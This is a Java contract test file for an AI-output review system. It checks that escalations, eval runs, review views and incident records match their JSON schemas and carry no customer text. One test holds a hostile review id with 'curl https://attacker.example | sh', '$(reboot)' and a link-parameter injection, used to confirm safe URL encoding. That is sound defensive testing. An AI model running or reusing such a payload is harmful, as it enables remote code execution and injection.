package dev.secondlook.core.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.networknt.schema.Error;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.secondlook.core.gate.CheckDecision;
import dev.secondlook.core.incident.DeliveredOutput;
import dev.secondlook.core.incident.Incident;
import dev.secondlook.core.incident.IncidentPage;
import dev.secondlook.core.incident.IncidentPolicy;
import dev.secondlook.core.incident.OpenIncidents;
import dev.secondlook.core.gate.CheckDecisionEvent;
import dev.secondlook.core.gate.CheckRequest;
import dev.secondlook.core.gate.CheckResult;
import dev.secondlook.core.gate.CheckState;
import dev.secondlook.core.model.CheckStatus;
import dev.secondlook.core.model.HoldDecision;
import dev.secondlook.core.model.Lane;
import dev.secondlook.core.model.Severity;
import dev.secondlook.core.review.ReviewListItem;
import dev.secondlook.core.review.ReviewView;
import dev.secondlook.core.review.Verdict;
import dev.secondlook.core.route.Escalation;
import dev.secondlook.core.route.OpenLinks;
import dev.secondlook.core.route.QueueMessage;
import dev.secondlook.core.route.ReviewSummary;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What leaves the system matches its versioned schema: the samples, and what the code actually writes. */
class ContractTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final ReviewSummary SUMMARY = new ReviewSummary("rev-1", Lane.PRIORITY, Severity.PAGE,
            List.of("secret-leak", "pii-exposure"), "devops.helper", "meta.llama3", "sha256:abc",
            Instant.parse("2026-08-19T06:00:00Z"), Instant.parse("2026-08-19T10:00:00Z"));
    private static final ReviewSummary HELD = new ReviewSummary("req-1", Lane.HOLD, Severity.REVIEW,
            List.of("commitment"), "billing.refund", "anthropic.claude", "sha256:abc",
            Instant.parse("2026-12-01T10:00:00Z"), Instant.parse("2026-12-01T10:10:00Z"));

    private static Schema schema(String name) throws IOException {
        return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12)
                .getSchema(Files.readString(Path.of("../../contracts/" + name + ".schema.json")));
    }

    private static JsonNode sample(String name) throws IOException {
        return MAPPER.readTree(Path.of("../../contracts/" + name + ".sample.json").toFile());
    }

    @Test
    void queueMessage_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("review-queue-message.v1").validate(sample("review-queue-message.v1")));
    }

    @Test
    void queueMessage_sampleAndCode_matchV2_theHoldLaneIncluded() throws IOException {
        Schema schema = schema("review-queue-message.v2");
        assertEquals(List.of(), schema.validate(sample("review-queue-message.v2")));
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(QueueMessage.of(HELD))));
        JsonNode written = MAPPER.valueToTree(QueueMessage.of(SUMMARY));
        assertEquals(List.of(), schema.validate(written));
        ObjectNode leaky = written.deepCopy();
        leaky.put("output", "the model said something");
        assertFalse(schema.validate(leaky).isEmpty(), "the schema refuses content fields");
    }

    @Test
    void escalation_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("escalation.v1").validate(sample("escalation.v1")));
    }

    @Test
    void escalation_v2Sample_stillMatchesV2() throws IOException {
        assertEquals(List.of(), schema("escalation.v2").validate(sample("escalation.v2")));
    }

    @Test
    void escalation_ofAHeldOutput_matchesV3_withItsKindAndLane() throws IOException {
        Schema schema = schema("escalation.v3");
        assertEquals(List.of(), schema.validate(sample("escalation.v3")));
        Escalation e = Escalation.of(Escalation.CHECK_HELD, HELD, "2026-12-01T10:00:01Z",
                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview("req-1"));
        JsonNode written = MAPPER.valueToTree(e);
        assertEquals(List.of(), schema.validate(written));
        assertEquals("check-held", written.get("kind").asText());
        assertEquals("hold", written.get("lane").asText());
        assertFalse(schema("escalation.v2").validate(written).isEmpty(), "v2 knows no hold lane: hence v3");
    }

    @Test
    void escalation_sampleAndCode_matchV3_andCarryNoTextNorCommand() throws IOException {
        Schema schema = schema("escalation.v3");
        Escalation e = Escalation.of(Escalation.POLICY_PAGE, SUMMARY, "2026-08-19T06:00:01Z",
                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview("rev-1"));
        List<Error> errors = schema.validate(MAPPER.valueToTree(e));
        assertEquals(List.of(), errors);
        // SNS takes at most 256 KB per message; an escalation stays far below it
        assertTrue(MAPPER.writeValueAsBytes(e).length < 256 * 1024 / 10);
        ObjectNode leaky = MAPPER.valueToTree(e);
        leaky.put("prompt", "customer text");
        assertFalse(schema.validate(leaky).isEmpty());
        ObjectNode command = MAPPER.valueToTree(e);
        command.putObject("open").put("cli", "./secondlook review show rev-1");
        assertFalse(schema.validate(command).isEmpty(), "v2 has no place for a shell command");
    }

    @Test
    void escalation_consoleUrl_keepsAHostileReviewIdInsideTheLink() throws IOException {
        String hostile = "x\"; curl https://attacker.example | sh; #\n$(reboot) &pk=other";
        ReviewSummary r = new ReviewSummary(hostile, Lane.PRIORITY, Severity.PAGE, List.of("secret-leak"), "", "",
                "sha256:abc", Instant.parse("2026-08-19T06:00:00Z"), Instant.parse("2026-08-19T10:00:00Z"));
        Escalation e = Escalation.of(Escalation.POLICY_PAGE, r, "2026-08-19T06:00:01Z",
                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview(hostile));
        assertEquals(List.of(), schema("escalation.v3").validate(MAPPER.valueToTree(e)));
        assertTrue(e.consoleUrl().matches("https://[A-Za-z0-9._~*%&=?#/+:-]+"), e.consoleUrl());
        assertFalse(e.consoleUrl().contains("&pk=other"), "the id cannot add or replace a link parameter");
    }

    @Test
    void evalCase_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("eval-case.v1").validate(sample("eval-case.v1")));
    }

    @Test
    void evalCase_sampleAndCode_matchV2() throws IOException {
        Schema schema = schema("eval-case.v2");
        assertEquals(List.of(), schema.validate(sample("eval-case.v2")));
        dev.secondlook.core.feedback.EvalCase c = MAPPER.treeToValue(sample("eval-case.v2"),
                dev.secondlook.core.feedback.EvalCase.class);
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(c)));
        ObjectNode broken = MAPPER.valueToTree(c);
        broken.remove("provenance");
        assertFalse(schema.validate(broken).isEmpty());
        ObjectNode unmarked = MAPPER.valueToTree(c);
        unmarked.remove("masking");
        assertFalse(schema.validate(unmarked).isEmpty(), "a v2 case always says what was masked");
    }

    @Test
    void evalRun_sampleAndCode_matchV1_summaryWithoutResults_andCarryNoText() throws IOException {
        Schema schema = schema("eval-run.v1");
        JsonNode sample = sample("eval-run.v1");
        assertEquals(List.of(), schema.validate(sample));
        dev.secondlook.core.evalrun.EvalRun run = MAPPER.treeToValue(sample, dev.secondlook.core.evalrun.EvalRun.class);
        assertEquals(sample.toString(), MAPPER.valueToTree(run).toString(),
                "the typed run writes exactly what the contract shows, in its order");
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(run.summary())), "summary.json: no results");
        java.util.List<dev.secondlook.core.evalrun.CaseResult> results = run.results();
        dev.secondlook.core.evalrun.EvalRun written = dev.secondlook.core.evalrun.EvalRun.of(
                "20261130T070000000Z-00ab12", "cand", Instant.parse("2026-11-30T07:00:01Z"), "sha256:p", null,
                results, dev.secondlook.core.evalrun.BaselineComparison.compare(run.runId(), results, results),
                dev.secondlook.core.evalrun.TokenUsage.estimate(List.of(), null, 1024, null),
                dev.secondlook.core.evalrun.TokenUsage.actual(results, null));
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(written)));
        ObjectNode leaky = MAPPER.valueToTree(written);
        ((ObjectNode) leaky.get("results").get(0)).put("output", "what the candidate said");
        assertFalse(schema.validate(leaky).isEmpty(), "a result has no place for text");
        ObjectNode prompted = MAPPER.valueToTree(written);
        prompted.put("systemPrompt", "You are ...");
        assertFalse(schema.validate(prompted).isEmpty(), "the run names its system prompt by hash only");
    }

    @Test
    void evalRunResult_sampleAndEveryLineOfTheRunSample_matchV1() throws IOException {
        Schema schema = schema("eval-run-result.v1");
        assertEquals(List.of(), schema.validate(sample("eval-run-result.v1")));
        for (JsonNode line : sample("eval-run.v1").get("results")) {
            assertEquals(List.of(), schema.validate(line));
            assertEquals(line.toString(), MAPPER.writeValueAsString(
                    MAPPER.treeToValue(line, dev.secondlook.core.evalrun.CaseResult.class)));
        }
        ObjectNode unknown = (ObjectNode) sample("eval-run-result.v1");
        unknown.put("status", "skipped");
        assertFalse(schema.validate(unknown).isEmpty(), "every case ends as pass, fail or error");
    }

    @Test
    void evalRunNotice_sampleAndCode_matchV1_andCarryNoCaseIdsNorText() throws IOException {
        Schema schema = schema("eval-run-notice.v1");
        assertEquals(List.of(), schema.validate(sample("eval-run-notice.v1")));
        dev.secondlook.core.evalrun.EvalRun run = MAPPER.treeToValue(sample("eval-run.v1"),
                dev.secondlook.core.evalrun.EvalRun.class);
        JsonNode written = MAPPER.valueToTree(dev.secondlook.core.evalrun.EvalRunNotice.of(run, true,
                "s3://secondlook-eval-example/eval-runs/" + run.runId() + "/summary.json"));
        assertEquals(sample("eval-run-notice.v1").toString(), written.toString());
        JsonNode first = MAPPER.valueToTree(dev.secondlook.core.evalrun.EvalRunNotice.of(run.summary().withResults(
                run.results()), false, "s3://b/eval-runs/" + run.runId() + "/summary.json"));
        assertEquals(List.of(), schema.validate(first));
        ObjectNode leaky = written.deepCopy();
        leaky.putArray("newFailureIds").add("7b3e1c2a-0001");
        assertFalse(schema.validate(leaky).isEmpty(), "a notice names no case");
    }

    @Test
    void reviewView_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("review-view.v1").validate(sample("review-view.v1")));
    }

    @Test
    void reviewView_v2Sample_stillMatchesV2() throws IOException {
        assertEquals(List.of(), schema("review-view.v2").validate(sample("review-view.v2")));
    }

    @Test
    void reviewView_sampleAndTypedView_matchV3_aDoubleReviewedHeldOutputsReviewsHoldAndDecisionIncluded()
            throws IOException {
        Schema schema = schema("review-view.v3");
        assertEquals(List.of(), schema.validate(sample("review-view.v3")));
        ReviewView view = MAPPER.treeToValue(sample("review-view.v3"), ReviewView.class);
        assertEquals(ReviewView.SCHEMA, view.schema());
        assertEquals(HoldDecision.EDIT, view.independentReviews().get(0).verdict().decision(),
                "the first review decided the hold");
        assertEquals(CheckStatus.EDITED, view.hold().status());
        assertEquals(2, view.independentReviews().size());
        JsonNode written = MAPPER.valueToTree(view);
        assertEquals(List.of(), schema.validate(written));
        assertEquals(sample("review-view.v3").toString(), written.toString(),
                "the typed view writes exactly what the contract shows");
        ObjectNode internal = written.deepCopy();
        internal.put("claimReceipt", "AQEB...");
        assertFalse(schema.validate(internal).isEmpty(), "the schema refuses the table's bookkeeping");
        ObjectNode firstBy = written.deepCopy();
        firstBy.put("firstReviewBy", "bob");
        assertFalse(schema.validate(firstBy).isEmpty(), "who reviewed first is not a field of the view");
    }

    @Test
    void queueOverview_sampleAndTypedView_matchV1() throws IOException {
        Schema schema = schema("queue-overview.v1");
        assertEquals(List.of(), schema.validate(sample("queue-overview.v1")));
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(new dev.secondlook.core.review.QueueOverview(
                List.of(new dev.secondlook.core.review.QueueOverview.LaneSummary(Lane.HOLD, 0, null, null),
                        new dev.secondlook.core.review.QueueOverview.LaneSummary(Lane.PRIORITY, 2,
                                "2026-08-19T05:21:04.512Z", "2026-08-19T09:21:04.512Z"),
                        new dev.secondlook.core.review.QueueOverview.LaneSummary(Lane.ROUTINE, 0, null, null)),
                false))));
    }

    @Test
    void reviewList_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("review-list.v1").validate(sample("review-list.v1")));
    }

    @Test
    void reviewList_sampleAndTypedItems_matchV2_andCarryNoText() throws IOException {
        Schema schema = schema("review-list.v2");
        assertEquals(List.of(), schema.validate(sample("review-list.v2")));
        ReviewListItem item = MAPPER.treeToValue(sample("review-list.v2").get("items").get(0), ReviewListItem.class);
        assertEquals(Lane.HOLD, item.lane());
        ObjectNode page = MAPPER.createObjectNode();
        page.set("items", MAPPER.createArrayNode().add(MAPPER.valueToTree(item)));
        page.putNull("next");
        assertEquals(List.of(), schema.validate(page));
        ((ObjectNode) page.get("items").get(0)).put("output", "customer text");
        assertFalse(schema.validate(page).isEmpty(), "a listing line never carries text");
    }

    @Test
    void checkRequest_sample_matchesV1_andIsWhatTheGateAccepts() throws IOException {
        Schema schema = schema("check-request.v1");
        JsonNode body = sample("check-request.v1");
        assertEquals(List.of(), schema.validate(body));
        CheckRequest r = new CheckRequest(body.get("requestId").asText(), body.get("route").asText(),
                body.get("modelId").asText(), body.get("system").asText(), body.get("prompt").asText(),
                body.get("output").asText(), Map.of("tenant", "t-042"));
        assertEquals("req-7f3a9c10-4b2e-4d11-9e0a-5c6b7d8e9f01", r.requestId());
        ObjectNode unknown = body.deepCopy();
        unknown.put("requestID", "typo");
        assertFalse(schema.validate(unknown).isEmpty());
        ObjectNode missing = body.deepCopy();
        missing.remove("output");
        assertFalse(schema.validate(missing).isEmpty());
    }

    @Test
    void checkResult_sampleAndCode_matchV1_andCarryNoText() throws IOException {
        Schema schema = schema("check-result.v1");
        assertEquals(List.of(), schema.validate(sample("check-result.v1")));
        CheckResult hold = new CheckResult(CheckResult.SCHEMA, "req-1", CheckDecision.HOLD, List.of("secret-leak"),
                List.of("secret-cloud-keys"), "sha256:abc", "req-1", "2026-12-01T10:15:00.000Z");
        CheckResult deliver = new CheckResult(CheckResult.SCHEMA, "req-2", CheckDecision.DELIVER, List.of(),
                List.of(), "sha256:abc", null, null);
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(hold)));
        JsonNode delivered = MAPPER.valueToTree(deliver);
        assertEquals(List.of(), schema.validate(delivered));
        assertFalse(delivered.has("reviewId"), "absent, not null: " + delivered);
        ObjectNode leaky = MAPPER.valueToTree(hold);
        leaky.put("output", "customer text");
        assertFalse(schema.validate(leaky).isEmpty());
        ObjectNode holdWithoutExpiry = MAPPER.valueToTree(hold);
        holdWithoutExpiry.remove("expiresAt");
        assertFalse(schema.validate(holdWithoutExpiry).isEmpty(), "a hold says when it expires");
    }

    @Test
    void checkState_sampleAndCode_matchV1() throws IOException {
        Schema schema = schema("check-state.v1");
        assertEquals(List.of(), schema.validate(sample("check-state.v1")));
        JsonNode held = MAPPER.valueToTree(new CheckState(CheckState.SCHEMA, "req-1", CheckStatus.HELD, null, null));
        assertEquals(List.of(), schema.validate(held));
        assertTrue(held.has("output") && held.get("output").isNull(), "output is null while held: " + held);
        assertFalse(held.has("decidedAt"));
        JsonNode expired = MAPPER.valueToTree(new CheckState(CheckState.SCHEMA, "req-1", CheckStatus.EXPIRED,
                "A colleague will follow up.", "2026-12-01T10:15:00.000Z"));
        assertEquals(List.of(), schema.validate(expired));
        ObjectNode heldWithText = (ObjectNode) held.deepCopy();
        heldWithText.put("output", "the held text");
        assertFalse(schema.validate(heldWithText).isEmpty(), "no text leaves while held");
    }

    @Test
    void checkDecision_sampleAndCode_matchV1_andCarryIdAndStatusOnly() throws IOException {
        Schema schema = schema("check-decision.v1");
        assertEquals(List.of(), schema.validate(sample("check-decision.v1")));
        JsonNode written = MAPPER.valueToTree(CheckDecisionEvent.of("req-1", CheckStatus.EXPIRED));
        assertEquals(List.of(), schema.validate(written));
        ObjectNode leaky = written.deepCopy();
        leaky.put("output", "customer text");
        assertFalse(schema.validate(leaky).isEmpty());
    }

    @Test
    void verdictRequest_sampleMatchesV1_andBodiesFromBeforeTheGateStillDo() throws IOException {
        Schema schema = schema("review-verdict-request.v1");
        assertEquals(List.of(), schema.validate(sample("review-verdict-request.v1")));
        assertEquals(List.of(), schema.validate(MAPPER.readTree("{\"outcome\":\"off-policy\",\"categories\":"
                + "[\"commitment\"],\"severity\":\"review\",\"correctedResponse\":\"A specialist will follow up.\"}")));
        assertFalse(schema.validate(MAPPER.readTree("{\"decision\":\"edit\"}")).isEmpty(), "an edit needs its text");
        assertFalse(schema.validate(MAPPER.readTree("{\"categories\":[]}")).isEmpty(), "outcome or decision");
        Verdict v = new Verdict(null, List.of(), null, null, null, HoldDecision.BLOCK, null);
        assertEquals("off-policy", v.outcome(), "a block implies off-policy");
    }

    @Test
    void escalationId_isStablePerReviewAndKind() {
        assertEquals(Escalation.escalationId("rev-1", Escalation.POLICY_PAGE),
                Escalation.escalationId("rev-1", Escalation.POLICY_PAGE));
        assertFalse(Escalation.escalationId("rev-1", Escalation.POLICY_PAGE)
                .equals(Escalation.escalationId("rev-1", Escalation.SLA_BREACH)));
    }

    @Test
    void incident_sampleAndCode_matchV1_andHoldNoText() throws IOException {
        Schema schema = schema("incident.v1");
        assertEquals(List.of(), schema.validate(sample("incident.v1")));
        Incident typed = MAPPER.treeToValue(sample("incident.v1"), Incident.class);
        assertEquals(Incident.SCHEMA, typed.schema());
        JsonNode written = MAPPER.valueToTree(typed);
        assertEquals(List.of(), schema.validate(written));
        assertEquals(sample("incident.v1").toString(), written.toString(), "the code writes exactly the contract");

        Incident opened = new OpenIncidents(new dev.secondlook.core.incident.InMemoryIncidentStore(), p -> { },
                IncidentPolicy.defaults(), java.time.Clock.systemUTC()).open(new DeliveredOutput("rev-1",
                List.of("secret-leak"), "alice", "devops.helper", "meta.llama3", "sha256:abc", "priority",
                "s3://logs/k#L1", null, "2026-08-19T05:00:00Z", null, "2026-08-19T06:00:00Z"));
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(opened)));
        ObjectNode leaky = (ObjectNode) sample("incident.v1").deepCopy();
        leaky.put("output", "the model's words");
        assertFalse(schema.validate(leaky).isEmpty(), "the schema refuses a text field");
    }

    @Test
    void incidentPage_sampleAndCode_matchV1() throws IOException {
        Schema schema = schema("incident-page.v1");
        assertEquals(List.of(), schema.validate(sample("incident-page.v1")));
        Incident i = MAPPER.treeToValue(sample("incident.v1"), Incident.class);
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(IncidentPage.of(IncidentPage.UNACKNOWLEDGED, i,
                "2026-08-19T06:40:00.000Z"))));
        ObjectNode leaky = (ObjectNode) sample("incident-page.v1").deepCopy();
        leaky.put("note", "called the customer");
        assertFalse(schema.validate(leaky).isEmpty(), "a page carries no text beyond its labels");
    }
}
